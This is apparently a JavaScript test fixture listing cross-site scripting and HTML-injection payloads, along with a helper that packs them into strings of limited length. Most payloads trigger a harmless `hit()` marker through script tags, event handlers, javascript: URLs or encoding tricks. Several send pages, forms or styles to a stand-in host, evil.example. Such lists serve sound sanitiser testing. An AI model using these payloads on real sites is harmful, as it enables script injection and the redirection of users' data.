/**
 * Text that would run, load, lead away or break out of its place if a page took it for
 * markup. Each calls `hit()` or names a host that no page of ours knows.
 */

export const ELSEWHERE = "evil.example";

export const PAYLOADS = [
  "<script>hit()</script>",
  "<img src=x onerror=hit()>",
  '"><svg onload=hit()>',
  "'><b onpointerover=hit()>x",
  "</title></textarea></style></script><script>hit()</script>",
  "<iframe srcdoc='<script>parent.hit()</script>'>",
  "<a href=javascript:hit()>x</a>",
  "<math><mtext><table><mglyph><style><img src onerror=hit()>",
  "<!--><img src=x onerror=hit()>-->",
  "]]><![CDATA[<script>hit()</script>",
  "&lt;img src=x onerror=hit()&gt;",
  "&#60;script&#62;hit()&#60;/script&#62;",
  "\\u003cscript>hit()\\u003c/script>",
  "+ADw-script+AD4-hit()+ADw-/script+AD4-",
  "{{constructor.constructor('hit()')()}}${hit()}#{hit()}<%= hit() %>",
  "javascript:hit()//",
  "data:text/html,<script>hit()</script>",
  `<base href=//${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}">`,
  `<link rel=stylesheet href=//${ELSEWHERE}>`,
  `<form action=//${ELSEWHERE}><button autofocus onfocus=hit()>x`,
  `<haochaping-rating endpoint="javascript:hit()//">`,
  "<template shadowrootmode=open><img src=x onerror=hit()></template>",
  "<details open ontoggle=hit()>x",
  `<div id=hcp-level style="background:url(//${ELSEWHERE})" name=level>x`,
];

/** The payloads in as few texts as possible, each at most `limit` characters long. */
export function joined(limit) {
  const texts = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < limit) texts[texts.length - 1] += ` ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
